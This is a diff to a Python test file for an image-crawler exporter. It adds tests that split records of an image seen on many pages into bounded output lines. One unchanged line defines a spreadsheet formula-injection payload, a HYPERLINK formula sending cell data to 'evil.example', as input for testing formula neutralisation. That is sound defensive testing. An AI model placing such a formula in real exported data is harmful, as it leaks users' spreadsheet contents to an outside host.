@@ -5,8 +5,12 @@ from __future__ import annotations
 
 import csv
 import io
+import json
+import shutil
 import struct
+import sys
 import zlib
+from collections import Counter
 
 import pytest
 from hypothesis import given
@@ -14,11 +18,17 @@ from hypothesis import strategies as st
 from PIL import Image
 
 from imgprint.exporters import CsvExporter, SeparatorSafeEncoder, neutralise_formula
-from imgprint.items import FIELDS, ImageRecord
+from imgprint.items import FIELDS, ImageRecord, page_chunks, split_pages
 from imgprint.pipelines import fingerprint_fields
-from imgprint.record_caps import MAX_RECORD_BYTES, TRUNCATED, cap_bytes, json_size
-from tests.conftest import run_crawl, static_server
-from tests.helpers import whole
+from imgprint.record_caps import (
+    MAX_PAGES_BYTES,
+    MAX_RECORD_BYTES,
+    TRUNCATED,
+    cap_bytes,
+    json_size,
+)
+from tests.conftest import Server, run_crawl, static_server
+from tests.helpers import EX, whole
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 
@@ -150,3 +160,64 @@ def test_cap_bytes_keeps_the_longest_prefix_that_fits(text, limit):
     kept = capped.removesuffix(TRUNCATED)
     assert text.startswith(kept) and json_size(kept) - 2 <= limit
     assert json_size(text[:len(kept) + 1]) - 2 > limit
+
+
+# -- finding 3: pages in a record, pages held for an image ----------------------
+
+def test_split_pages_loses_nothing_and_bounds_every_line():
+    pages = [f"http://site.test/p{i}?" + "x" * (i % 3000) for i in range(1000)]
+    record = ImageRecord("http://site.test/x.jpg", pages=list(pages))
+    record.set(width=10)
+    extra = split_pages(record, 100)
+    assert record.pages == pages[:len(record.pages)] and record.width == 10
+    assert all(r.seen_before and r.url == record.url for r in extra)
+    assert [p for r in [record, *extra] for p in r.pages] == pages
+    for r in [record, *extra]:
+        assert 1 <= len(r.pages) <= 100 and json_size(r.pages) <= MAX_PAGES_BYTES
+    # A page longer than the byte budget still travels, alone.
+    assert page_chunks(["a" * (MAX_PAGES_BYTES + 10), "b"], 100) == [
+        ["a" * (MAX_PAGES_BYTES + 10)], ["b"]]
+    few = ImageRecord("http://site.test/y.jpg", pages=pages[:3])
+    assert split_pages(few, 100) == [] and few.pages == pages[:3]
+
+
+@pytest.mark.crawl
+def test_an_image_on_many_pages_makes_bounded_lines(tmp_path):
+    """Finding 3: one image on 1,000 same-site pages with 2 KB URLs, answering
+    slowly so the pages pile up, made a 2,034,386-byte line. Here 300 pages
+    and IMGPRINT_MAX_PAGES_PER_RECORD at its default (100): every page is in
+    the feed once, in lines of at most 100 pages."""
+    n_pages = 300
+    site = tmp_path / "site"
+    site.mkdir()
+    files = tmp_path / "files"
+    files.mkdir()
+    shutil.copy(EX / "jpg" / "Canon_40D.jpg", files / "logo.jpg")
+    # The image drips one byte a second: its record waits for the timeout.
+    faulty = Server([sys.executable, "-m", "tests.servers.faulty_site", str(files),
+                     "--log", str(tmp_path / "faulty.jsonl")])
+    logo = faulty.url("/drip/logo.jpg")
+    (site / "p.html").write_text(f'<html><body><img src="{logo}"></body></html>')
+    links = [f"/p.html?n={i:04d}&pad={'x' * 2000}" for i in range(n_pages)]
+    (site / "index.html").write_text(
+        "<html><body>" + "".join(f'<a href="{u}">{i}</a>' for i, u in enumerate(links))
+        + "</body></html>")
+    server = static_server(site, tmp_path / "access.jsonl")
+    try:
+        crawl = run_crawl(tmp_path, "-a", f"url={server.url('/index.html')}", "-a", "depth=1",
+                          settings={"DOWNLOAD_TIMEOUT": 10, "RETRY_ENABLED": "False"},
+                          timeout=300)
+    finally:
+        server.stop()
+        faulty.stop()
+    assert crawl.returncode == 0, crawl.log[-3000:]
+    lines = crawl.output.read_bytes().splitlines()
+    mine = [r for r in crawl.records if r["url"] == logo]
+    print(f"\n{len(mine)} lines for the image, pages per line"
+          f" {[len(r['pages']) for r in mine]}, longest line {max(map(len, lines))} bytes")
+    assert len([r for r in mine if not r.get("seen_before")]) == 1
+    counts = Counter(p for r in mine for p in r["pages"])
+    assert set(counts) == {server.url(u) for u in links} and max(counts.values()) == 1
+    assert max(len(r["pages"]) for r in mine) <= 100
+    assert max(map(len, lines)) <= MAX_RECORD_BYTES + MAX_PAGES_BYTES + 4096
+    assert all(json.loads(line) for line in lines)
